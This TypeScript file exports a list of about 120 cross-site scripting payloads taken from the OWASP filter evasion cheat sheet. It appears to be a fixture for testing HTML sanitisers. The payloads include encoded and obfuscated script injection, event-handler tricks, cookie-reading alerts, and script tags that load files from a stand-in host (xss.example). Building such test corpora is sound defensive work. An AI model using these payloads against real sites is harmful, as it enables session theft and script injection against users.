/** An attempt to make a page act, and what it tries. */
export interface XssPayload {
  kind: string;
  payload: string;
}

/**
 * The kinds of attempts of the OWASP "XSS Filter Evasion Cheat Sheet", with addresses that lead nowhere in place of its own.
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html (CC BY-SA 4.0)
 */
export const xssPayloads: readonly XssPayload[] = [
  {
    kind: 'locator',
    payload:
      "';alert(String.fromCharCode(88,83,83))//';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
  },
  { kind: 'locator', payload: "'';!--\"<XSS>=&{()}" },
  {
    kind: 'locator',
    payload:
      "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  },
  { kind: 'script tag', payload: "<SCRIPT>alert('XSS')</SCRIPT>" },
  { kind: 'script tag', payload: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT SRC=//xss.example/.j>' },
  { kind: 'script tag', payload: '<SCRIPT SRC=http://xss.example/xss.js?< B >' },
  { kind: 'script tag', payload: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>' },
  { kind: 'script tag', payload: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { kind: 'script tag', payload: '<SCRIPT a=">" SRC="http://xss.example/xss.js"></SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT =">" SRC="http://xss.example/xss.js"></SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT a=">" \'\' SRC="http://xss.example/xss.js"></SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT "a=\'>\'" SRC="http://xss.example/xss.js"></SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT a=`>` SRC="http://xss.example/xss.js"></SCRIPT>' },
  { kind: 'script tag', payload: '<SCRIPT a=">\'>" SRC="http://xss.example/xss.js"></SCRIPT>' },
  {
    kind: 'script tag',
    payload: '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://xss.example/xss.js"></SCRIPT>',
  },
  { kind: 'script tag', payload: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { kind: 'script tag', payload: "</script><script>alert('XSS');</script>" },
  { kind: 'script tag', payload: "\\\";alert('XSS');//" },
  { kind: 'script tag', payload: "<script>alert('XSS')</script>" },
  { kind: 'script tag', payload: "<ScRiPt>alert('XSS')</sCrIpT>" },
  { kind: 'script tag', payload: "<script\u00a0>alert('XSS')</script>" },
  { kind: 'script tag', payload: '<script>alert(document.cookie)//' },
  { kind: 'image directive', payload: '<IMG SRC="javascript:alert(\'XSS\');">' },
  { kind: 'image directive', payload: "<IMG SRC=javascript:alert('XSS')>" },
  { kind: 'image directive', payload: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { kind: 'image directive', payload: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  { kind: 'image directive', payload: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { kind: 'image directive', payload: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { kind: 'image directive', payload: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { kind: 'image directive', payload: '<IMG SRC="jav\tascript:alert(\'XSS\');">' },
  { kind: 'image directive', payload: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">' },
  { kind: 'image directive', payload: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">' },
  { kind: 'image directive', payload: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">' },
  { kind: 'image directive', payload: '<IMG SRC=" &#14; javascript:alert(\'XSS\');">' },
  { kind: 'image directive', payload: '<IMG SRC="javascript:alert(\'XSS\')"' },
  { kind: 'image directive', payload: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { kind: 'image directive', payload: '<IMG LOWSRC="javascript:alert(\'XSS\')">' },
  { kind: 'image directive', payload: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { kind: 'image directive', payload: '<IMG SRC="livescript:alert(\'XSS\')">' },
  {
    kind: 'character references',
    payload:
      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  },
  {
    kind: 'character references',
    payload:
      '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  },
  {
    kind: 'character references',
    payload:
      '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  },
  {
    kind: 'character references',
    payload: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(\'XSS\')">Click Me</a>',
  },
  {
    kind: 'character references',
    payload:
      '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  },
  { kind: 'character references', payload: "&lt;script&gt;alert('XSS')&lt;/script&gt;" },
  { kind: 'character references', payload: "\\u003cscript\\u003ealert('XSS')\\u003c/script\\u003e" },
  { kind: 'character references', payload: "%3Cscript%3Ealert('XSS')%3C/script%3E" },
  { kind: 'character references', payload: "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-" },
  { kind: 'event handlers', payload: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { kind: 'event handlers', payload: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { kind: 'event handlers', payload: '<IMG onmouseover="alert(\'xxs\')">' },
  { kind: 'event handlers', payload: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  { kind: 'event handlers', payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { kind: 'event handlers', payload: "<svg/onload=alert('XSS')>" },
  { kind: 'event handlers', payload: '<svg onload=alert(1)//' },
  { kind: 'event handlers', payload: "<BODY ONLOAD=alert('XSS')>" },
  { kind: 'event handlers', payload: '<body onpageshow=alert(1)>' },
  { kind: 'event handlers', payload: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { kind: 'event handlers', payload: "<input autofocus onfocus=alert('XSS')>" },
  { kind: 'event handlers', payload: "<select autofocus onfocus=alert('XSS')>" },
  { kind: 'event handlers', payload: "<textarea autofocus onfocus=alert('XSS')>" },
  { kind: 'event handlers', payload: "<keygen autofocus onfocus=alert('XSS')>" },
  { kind: 'event handlers', payload: "<details open ontoggle=alert('XSS')>" },
  { kind: 'event handlers', payload: '<video><source onerror="alert(\'XSS\')"></video>' },
  { kind: 'event handlers', payload: "<audio src=x onerror=alert('XSS')>" },
  { kind: 'event handlers', payload: "<marquee onstart=alert('XSS')>" },
  { kind: 'event handlers', payload: "<div onpointerenter=alert('XSS') style=position:fixed;inset:0>" },
  { kind: 'event handlers', payload: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { kind: 'event handlers', payload: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { kind: 'event handlers', payload: "<x onclick=alert('XSS') tabindex=1 id=x>#x" },
  { kind: 'event handlers', payload: "<style onload=alert('XSS')></style>" },
  { kind: 'event handlers', payload: "<animate onbegin=alert('XSS') attributeName=x dur=1s>" },
  { kind: 'event handlers', payload: '" onfocus=alert(\'XSS\') autofocus="' },
  { kind: 'event handlers', payload: "' onmouseover='alert(1)" },
  {
    kind: 'style and stylesheets',
    payload: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  },
  { kind: 'style and stylesheets', payload: "<STYLE>@import'http://xss.example/xss.css';</STYLE>" },
  {
    kind: 'style and stylesheets',
    payload: '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
  },
  { kind: 'style and stylesheets', payload: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>' },
  { kind: 'style and stylesheets', payload: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  { kind: 'style and stylesheets', payload: '<STYLE TYPE="text/javascript">alert(\'XSS\');</STYLE>' },
  {
    kind: 'style and stylesheets',
    payload: '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  },
  { kind: 'style and stylesheets', payload: '<XSS STYLE="behavior: url(xss.htc);">' },
  { kind: 'style and stylesheets', payload: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">' },
  { kind: 'style and stylesheets', payload: '<DIV STYLE="width: expression(alert(\'XSS\'));">' },
  { kind: 'style and stylesheets', payload: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { kind: 'style and stylesheets', payload: '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">' },
  { kind: 'style and stylesheets', payload: '<BGSOUND SRC="javascript:alert(\'XSS\');">' },
  { kind: 'style and stylesheets', payload: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { kind: 'style and stylesheets', payload: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">' },
  { kind: 'style and stylesheets', payload: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { kind: 'documents within the document', payload: '<iframe src=http://xss.example/scriptlet.html <' },
  { kind: 'documents within the document', payload: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { kind: 'documents within the document', payload: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { kind: 'documents within the document', payload: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>' },
  { kind: 'documents within the document', payload: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  {
    kind: 'documents within the document',
    payload: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  },
  {
    kind: 'documents within the document',
    payload:
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml"></EMBED>',
  },
  {
    kind: 'documents within the document',
    payload: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  },
  {
    kind: 'documents within the document',
    payload:
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  {
    kind: 'documents within the document',
    payload: '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
  },
  { kind: 'documents within the document', payload: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  {
    kind: 'documents within the document',
    payload: "<form><button formaction=javascript:alert('XSS')>X</button></form>",
  },
  { kind: 'documents within the document', payload: "<svg><script>alert&#40;'XSS')</script></svg>" },
  { kind: 'documents within the document', payload: '<math><a xlink:href="javascript:alert(\'XSS\')">x</a></math>' },
  {
    kind: 'documents within the document',
    payload:
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>",
  },
  { kind: 'comments and declarations', payload: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
  {
    kind: 'comments and declarations',
    payload:
      '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=http://xss.example/xss.js></SCRIPT>\'"-->',
  },
  { kind: 'comments and declarations', payload: "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>" },
  {
    kind: 'comments and declarations',
    payload: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  },
  { kind: 'comments and declarations', payload: '<!DOCTYPE html><img src=x onerror=alert(1)>' },
  { kind: 'addresses', payload: '<A HREF="http://66.102.7.147/" onclick=alert(1)>XSS</A>' },
  { kind: 'addresses', payload: '<A HREF="javascript:document.location=\'http://www.xss.example/\'">XSS</A>' },
  { kind: 'addresses', payload: '<A HREF="//www.xss.example/">XSS</A>' },
  { kind: 'addresses', payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { kind: 'addresses', payload: "[XSS](javascript:alert('XSS'))" },
  { kind: 'addresses', payload: "[XSS](JaVaScRiPt:alert%28'XSS'%29)" },
  { kind: 'addresses', payload: "![XSS](javascript:alert('XSS'))" },
  { kind: 'addresses', payload: "<javascript:alert('XSS')>" },
  { kind: 'addresses', payload: "[x]: javascript:alert('XSS')\n[x]" },
];
